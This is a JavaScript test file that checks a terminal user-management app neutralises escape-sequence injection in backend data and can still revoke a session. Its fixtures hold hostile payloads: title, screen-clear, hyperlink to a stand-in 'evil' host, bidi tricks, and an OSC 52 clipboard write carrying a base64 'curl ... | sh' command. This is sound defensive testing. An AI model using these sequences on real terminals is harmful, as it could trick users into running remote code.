import {test} from 'node:test';
import assert from 'node:assert/strict';
import {appOn} from '../helpers/app.js';
import {KEY} from '../helpers/render.js';

const HOSTILE_NAME = 'Mallory\u001b]0;pwned\u0007\u001b[2J\u202Eevil\u200Bx';
const HOSTILE_AGENT = 'Chrome\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';

test('hostile strings from the backend never reach the terminal as escape sequences, and the user can still be acted on', async (t) => {
	const app = await appOn(t, 'wacht', {wacht: {
		data: {
			users: [
				{
					first_name: HOSTILE_NAME,
					last_name: '李\u0301',
					emails: ['mallory@example.test'],
					sessions: [{browser: HOSTILE_AGENT, device: 'Mac\r\nDELETED', city: 'Lisbon'}],
					passkeys: [{name: 'key\u001b[31mRED\u001b]8;;http://evil/\u0007link'}],
				},
			],
		},
	}});
	const {sim} = app;
	await app.type('mallory@example.test');
	await app.press(KEY.enter);
	await app.waitFor('Sessions (1)');
	await app.press('2');
	await app.waitFor('RED');
	const raw = app.stdout.frames.join('');
	assert.ok(!raw.includes('\u001b]'), 'no OSC sequence (title, clipboard, hyperlink) from data');
	assert.ok(!raw.includes('\u001b[2J'), 'no screen clear from data');
	assert.ok(!raw.includes('\u202E') && !raw.includes('\u200B') && !raw.includes('\r'), 'no bidi override, zero-width or CR');
	const frame = app.frame();
	assert.match(frame, /Mallory␛\]0;pwned\^G␛\[2J⟨U\+202E⟩evil⟨U\+200B⟩x/, 'tampering is visible, not silently stripped');
	for (const line of frame.split('\n')) assert.ok(line.length <= 100, `no line wider than the terminal: ${line}`);
	await app.press('1', 'x');
	await app.waitFor('y to confirm');
	await app.press('y');
	await app.waitFor('✓ Revoked session');
	const mallory = sim.store.userByEmail('mallory@example.test');
	assert.equal(sim.store.activeSessionsOf(mallory.id).length, 0);
});
